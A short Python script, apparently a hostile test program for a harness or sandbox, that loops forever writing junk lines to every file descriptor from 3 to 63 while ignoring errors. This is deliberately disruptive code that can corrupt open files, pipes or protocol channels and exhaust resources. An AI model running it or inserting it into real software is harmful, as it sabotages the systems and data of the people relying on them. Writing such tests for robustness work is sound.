# floods whatever channel it finds with lines
import os

print("tried", flush=True)
while True:
    for number in range(3, 64):
        try:
            os.write(number, b"{}\n[[[[\n" * 1000)
        except OSError:
            pass
